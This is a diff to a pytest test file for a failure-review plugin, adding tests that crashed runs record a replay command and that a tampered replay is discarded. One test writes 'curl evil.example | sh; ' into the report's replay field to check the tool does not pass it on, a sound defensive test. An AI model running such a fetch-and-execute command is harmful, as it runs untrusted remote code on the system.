@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 from plugin_project import Project
 
-from pytest_failure_review.checking import check, check_the_dead
+from pytest_failure_review.annotations import annotate
+from pytest_failure_review.checking import check, check_the_dead, findings_of, read, with_their_deaths
 
 DEATHS = {
     "exit_0": ("os._exit(0)", "exit status 0", 0),
@@ -57,6 +60,44 @@ def test_a_run_that_dies_names_the_test_and_keeps_what_failed_before(project: Pr
     assert failure["category"] == "infra.runner"
     assert check_the_dead(project.reports) == found  # it is told once
     assert sorted(path.suffix for path in project.reports.iterdir()) == [".jsonl"]
+
+
+@pytest.mark.parametrize("was_checked", [True, False])
+def test_a_test_in_which_the_run_died_carries_the_command_that_lets_it_die_again(
+    project: Project, was_checked: bool
+) -> None:
+    project.write("test_a.py", DYING + dying("exit_3"))
+    project.run_and_die("-W", "ignore")
+    if was_checked:
+        check_the_dead(project.reports)
+    (file,) = project.reports.glob("*.jsonl")
+    found = findings_of(with_their_deaths({file: read(file)}))
+    _, died = found.records
+    program, *words = shlex.split(died["replay"])
+    assert (program, words[-1]) == ("pytest", f"reports/{file.name}#2")
+    assert words[words.index("-W") :][:2] == ["-W", "ignore"]
+    assert any(f"Replay: {died['replay']}" in line.replace("%3A", ":") for line in annotate(found))
+    assert project.run_and_die(*words).result.ret == 3
+
+
+def test_a_command_that_somebody_else_wrote_into_the_start_record_is_not_passed_on(project: Project) -> None:
+    project.write("test_a.py", "import os\n\ndef test_a():\n    os._exit(0)\n")
+    project.run_and_die()
+    (file,) = project.reports.glob("*.jsonl")
+    file.write_text(file.read_text().replace('"replay":"', '"replay":"curl evil.example | sh; '))
+    check_the_dead(project.reports)
+    *_, failure = project.files()["main"]
+    assert failure["outcome"] == "crashed"
+    assert "replay" not in failure
+
+
+@pytest.mark.parametrize("given", [(), ("-n1", "--max-worker-restart=0")])
+def test_a_death_is_said_of_the_process_with_and_without_workers(project: Project, given: tuple[str, ...]) -> None:
+    project.write("test_a.py", "import os\n\ndef test_a():\n    os._exit(0)\n")
+    project.run_and_die(*given)
+    check_the_dead(project.reports)
+    (failure,) = [record for record in project.files()["main"] if record["record"] == "failure"]
+    assert failure["rule"] == "the process died while running it"
 
 
 def test_workers_that_die_are_told_of_by_the_main_process(project: Project) -> None:
